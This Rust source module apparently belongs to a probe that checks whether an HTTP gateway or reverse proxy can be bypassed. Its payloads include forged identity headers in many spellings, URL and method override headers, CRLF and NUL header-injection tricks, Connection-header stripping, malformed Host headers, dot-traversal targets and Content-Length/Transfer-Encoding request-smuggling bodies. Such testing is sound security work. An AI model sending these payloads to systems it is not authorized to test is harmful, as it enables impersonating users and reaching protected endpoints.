//! Attacks by fields, methods, hosts, forms of the target and framing.

use super::{Collector, Message};

/// Fields that tell an upstream who it is, or who asks.
pub(in crate::probe) const IDENTITY: &[&str] = &[
    "X-Forwarded-User",
    "X-Forwarded-Email",
    "X-Forwarded-Groups",
    "X-Forwarded-Roles",
    "X-Forwarded-Home",
    "X-Forwarded-Preferred-Username",
    "X-Auth-Request-User",
    "X-Auth-Request-Email",
    "X-Auth-Request-Groups",
    "Remote-User",
    "Remote-Groups",
    "Remote-Email",
    "Remote-Name",
    "X-Remote-User",
    "X-WebAuth-User",
    "X-Authenticated-User",
    "X-Authentik-Username",
    "X-User",
    "X-Auth-User",
    "X-Auth-Username",
    "X-Consumer-Username",
    "X-Goog-Authenticated-User-Email",
    "X-MS-Client-Principal-Name",
    "X-Amzn-Oidc-Identity",
    "X-Pomerium-Claim-Email",
    "X-Vouch-User",
    "X-JWT-Assertion",
    "X-SSL-Client-CN",
];

/// Fields that say where a request was meant to go.
const TARGETS: &[&str] = &["X-Original-URL", "X-Rewrite-URL", "X-Original-URI", "X-Forwarded-URI"];

/// Fields that say what its method was meant to be.
const METHODS: &[&str] =
    &["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Forwarded-Method"];

/// Fields that tell about the way so far.
const WAY: &[&str] = &[
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-Forwarded-Port",
    "X-Forwarded-Prefix",
    "X-Forwarded-Server",
    "X-Real-IP",
    "Forwarded",
    "True-Client-IP",
    "X-Client-IP",
    "Client-IP",
];

/// A name of no gateway, to be recognized.
pub(super) const ELSEWHERE: &str = "elsewhere.invalid";

pub(super) fn headers(of: &mut Collector<'_>) {
    let site = of.site;
    let (name_of_other, other) = (site.other.name.clone(), site.other_target());
    for name in IDENTITY {
        for spelt in spellings(name) {
            let field = format!("{spelt}: {name_of_other}");
            of.forge("forged identity", &field, &fold(name), &name_of_other);
        }
    }
    for name in TARGETS {
        for spelt in spellings(name) {
            of.forge("another target", &format!("{spelt}: {other}"), &fold(name), &other);
        }
    }
    for name in METHODS {
        for spelt in spellings(name) {
            of.forge("another method", &format!("{spelt}: DELETE"), &fold(name), "DELETE");
        }
    }
    for name in WAY {
        let value = if *name == "Forwarded" {
            format!("for={ELSEWHERE};host={ELSEWHERE}")
        } else {
            ELSEWHERE.to_owned()
        };
        of.forge("forged way", &format!("{name}: {value}"), &fold(name), ELSEWHERE);
    }
    let forged = |of: &mut Collector<'_>, rule: &str, field: &str| {
        let field = field.replace("BOB", &name_of_other);
        of.forge(rule, &field, "x-forwarded-user", &name_of_other);
    };
    forged(of, "blank before the colon", "X-Forwarded-User : BOB");
    forged(of, "tab before the colon", "X-Forwarded-User\t: BOB");
    forged(of, "twice", "X-Forwarded-User: BOB\r\nX-Forwarded-User: BOB");
    forged(of, "folded line", "X-A: b\r\n X-Forwarded-User: BOB");
    forged(of, "behind a bare CR", "X-A: b\rX-Forwarded-User: BOB");
    forged(of, "behind a bare LF", "X-A: b\nX-Forwarded-User: BOB");
    forged(of, "behind NUL", "X-A: b\0\r\nX-Forwarded-User: BOB");
    forged(of, "a list", "X-Forwarded-User: x, BOB");
    forged(of, "in a trailer", "Trailer: X-Forwarded-User\r\nX-Forwarded-User: BOB");
    for named in [
        "X-Forwarded-User",
        "close, X-Forwarded-User",
        "close,\tx-forwarded-user",
        "close, Remote-User, X-Auth-Request-User, X-Forwarded-User",
        "close\r\nConnection: X-Forwarded-User",
        "close, Host",
        "close, Authorization",
        "close, Destination",
    ] {
        forged(of, "Connection names it", &format!("Connection: {named}"));
        let field = format!("Connection: {named}\r\nX-Forwarded-User: BOB");
        forged(of, "Connection names it, and it is forged", &field);
    }
    let user = format!("Basic {}", "Ym9iOmJvYg==");
    forged(of, "a second credential", &format!("Authorization: {user}"));
    forged(of, "a second credential as a token", "Authorization: Bearer e30.e30.e30");
}

/// As upstreams spell a field that they take for the same.
fn spellings(name: &str) -> Vec<String> {
    vec![
        name.to_owned(),
        name.to_lowercase(),
        name.replace('-', "_"),
        name.to_uppercase().replacen('-', "_", 1),
        name.replace('-', "."),
    ]
}

/// A field's name as upstreams compare it that cannot tell `-` from anything else.
pub(in crate::probe) fn fold(name: &str) -> String {
    let fold = |byte: u8| {
        if byte.is_ascii_alphanumeric() { char::from(byte.to_ascii_lowercase()) } else { '-' }
    };
    name.trim().bytes().map(fold).collect()
}

pub(super) fn methods(of: &mut Collector<'_>) {
    let site = of.site;
    let other = site.other_target();
    let by_dots = format!("{}{}{}", site.own_base(), site.up("..", "/"), site.other_below());
    for method in [
        "get",
        "Get",
        "HEAD",
        "POST",
        "PUT",
        "DELETE",
        "PATCH",
        "OPTIONS",
        "TRACE",
        "TRACK",
        "DEBUG",
        "CONNECT",
        "PROPFIND",
        "PROPPATCH",
        "MKCOL",
        "COPY",
        "MOVE",
        "LOCK",
        "UNLOCK",
        "REPORT",
        "SEARCH",
        "LINK",
        "PURGE",
        "BASELINE-CONTROL",
        "X",
        "GET\t",
        "\tGET",
        "G\u{cb}T",
        "GET/",
        "PRI",
    ] {
        let rule = method.escape_default().to_string();
        of.send(&format!("{rule}, directly"), method, &other, &[]);
        of.send(&format!("{rule}, by dots"), method, &by_dots, &[]);
    }
}

pub(super) fn host(of: &mut Collector<'_>) {
    let site = of.site;
    let (own, other, method) = (site.own_target(), site.other_target(), site.method.clone());
    let hosts = |lines: &[&str]| lines.iter().map(|&line| line.to_owned()).collect::<Vec<_>>();
    let all = [
        ("upper case", vec![format!("Host: {}", site.authority.to_uppercase())]),
        ("a final dot", hosts(&["Host: {authority}."])),
        ("another", vec![format!("Host: {ELSEWHERE}")]),
        ("twice", hosts(&["Host: {authority}", "Host: {authority}"])),
        ("two", hosts(&["Host: {authority}", "Host: elsewhere.invalid"])),
        ("two, the other first", hosts(&["Host: elsewhere.invalid", "Host: {authority}"])),
        ("none", hosts(&["X-Host: {authority}"])),
        ("empty", hosts(&["Host:"])),
        ("a list", hosts(&["Host: {authority}, elsewhere.invalid"])),
        ("a user", hosts(&["Host: {authority}@elsewhere.invalid"])),
        ("a user in front", hosts(&["Host: elsewhere.invalid@{authority}"])),
        ("a path", vec![format!("Host: {{authority}}{other}?")]),
        ("a fragment", hosts(&["Host: {authority}#elsewhere.invalid"])),
        ("a port too large", hosts(&["Host: {authority}:65536"])),
        ("a port of zero", hosts(&["Host: {authority}:0"])),
        ("a blank within", hosts(&["Host: {authority} elsewhere.invalid"])),
        ("a blank before the colon", hosts(&["Host : {authority}"])),
        ("a folded line", hosts(&["Host:\r\n {authority}"])),
        ("a bare LF", hosts(&["Host: {authority}\nHost: elsewhere.invalid"])),
        ("with underscores", hosts(&["Host: {authority}", "HO_ST: elsewhere.invalid"])),
    ];
    for (rule, fields) in all {
        for (way, target) in [("own", &own), ("the other's", &other)] {
            let line = format!("{method} {target} HTTP/1.1");
            let message = Message::Http1 { line, fields: fields.clone(), body: String::new() };
            of.push(&format!("{rule}, {way}"), message, None);
        }
    }
}

pub(super) fn absolute_form(of: &mut Collector<'_>) {
    let site = of.site;
    let (own, other) = (site.own_target(), site.other_target());
    let by =
        |dots: &str| format!("{}{}{}", site.own_base(), site.up(dots, "/"), site.other_below());
    let scheme = if site.is_secure { "https" } else { "http" };
    for (way, target) in [("directly", &other), ("by dots", &by("..")), ("encoded", &by("%2e%2e"))]
    {
        for front in [
            format!("{scheme}://{{authority}}"),
            format!("{}://{{authority}}", scheme.to_uppercase()),
            "http://{authority}:80".to_owned(),
            "https://{authority}:443".to_owned(),
            format!("{scheme}://{{authority}}."),
            format!("{scheme}://{ELSEWHERE}"),
            format!("{scheme}://x@{{authority}}"),
            format!("{scheme}://{{authority}}@{ELSEWHERE}"),
            format!("{scheme}://"),
            format!("{scheme}:/"),
            format!("{scheme}:"),
            "//{authority}".to_owned(),
            "ftp://{authority}".to_owned(),
            "file://".to_owned(),
            "\\\\{authority}".to_owned(),
        ] {
            of.ask(&format!("`{front}`, {way}"), &format!("{front}{target}"));
        }
    }
    let bare = other.trim_start_matches('/');
    for (rule, target) in [
        ("no slash in front", bare.to_owned()),
        ("asterisk", "*".to_owned()),
        ("asterisk with a path", format!("*{other}")),
        ("authority form", "{authority}".to_owned()),
        ("a fragment", format!("{other}#{own}")),
        ("behind a fragment", format!("{own}#/../..{other}")),
        ("a blank within", format!("{own} {other}")),
        ("a tab within", format!("{own}\t{other}")),
        ("a raw CR within", format!("{own}\r{other}")),
        ("a query as the authority", format!("{scheme}://{{authority}}?{other}")),
        ("a backslash behind the authority", format!("{scheme}://{{authority}}\\..{other}")),
    ] {
        of.ask(rule, &target);
    }
    for version in ["HTTP/1.0", "HTTP/0.9", "HTTP/2.0", "HTTP/1.1 ", "http/1.1", ""] {
        let line = format!("{} {other} {version}", site.method);
        let fields = vec!["Host: {authority}".to_owned()];
        of.push(
            &format!("version `{version}`"),
            Message::Http1 { line, fields, body: String::new() },
            None,
        );
    }
}

pub(super) fn framing(of: &mut Collector<'_>) {
    let site = of.site;
    let inner = format!(
        "{} {} HTTP/1.1\r\nHost: {{authority}}\r\nDoorward-Probe: {{marker}}\r\n\r\n",
        site.method,
        site.other_target()
    );
    let chunked = format!("0\r\n\r\n{inner}");
    let length = |body: &str| format!("Content-Length: {}", body.len());
    let coded = "Transfer-Encoding: chunked".to_owned();
    let all: [(&str, Vec<String>, &String); 19] = [
        ("length and coding", vec![length(&chunked), coded.clone()], &chunked),
        ("coding and length", vec![coded.clone(), length(&chunked)], &chunked),
        ("no length", vec!["Content-Length: 0".to_owned(), coded.clone()], &chunked),
        ("two lengths", vec!["Content-Length: 0".to_owned(), length(&inner)], &inner),
        (
            "two lengths, the other way",
            vec![length(&inner), "Content-Length: 0".to_owned()],
            &inner,
        ),
        ("a list of lengths", vec!["Content-Length: 0, 0".to_owned()], &inner),
        ("a signed length", vec!["Content-Length: +0".to_owned()], &inner),
        ("a length in hexadecimal", vec!["Content-Length: 0x0".to_owned()], &inner),
        ("an empty length", vec!["Content-Length:".to_owned()], &inner),
        ("a length with a blank", vec!["Content-Length : 0".to_owned()], &inner),
        (
            "a length with an underscore",
            vec!["Content_Length: 0".to_owned(), coded.clone()],
            &chunked,
        ),
        ("coding twice", vec![coded.clone(), coded.clone()], &chunked),
        ("a coding with a blank", vec!["Transfer-Encoding : chunked".to_owned()], &chunked),
        ("an unknown coding", vec!["Transfer-Encoding: xchunked".to_owned()], &chunked),
        ("identity", vec!["Transfer-Encoding: chunked, identity".to_owned()], &chunked),
        ("a vertical tab", vec!["Transfer-Encoding: \u{b}chunked".to_owned()], &chunked),
        (
            "a folded coding",
            vec!["Transfer-Encoding:\r\n chunked".to_owned(), length(&chunked)],
            &chunked,
        ),
        ("a coding behind a bare LF", vec![format!("X: y\n{coded}"), length(&chunked)], &chunked),
        (
            "an odd expectation",
            vec!["Expect: y 100-continue".to_owned(), "Content-Length: 0".to_owned()],
            &inner,
        ),
    ];
    for (rule, framing, body) in all {
        let mut fields = vec!["Host: {authority}".to_owned(), "Connection: keep-alive".to_owned()];
        fields.extend(framing);
        let line = format!("POST {} HTTP/1.1", site.own_target());
        of.push(rule, Message::Http1 { line, fields, body: body.clone() }, None);
    }
}
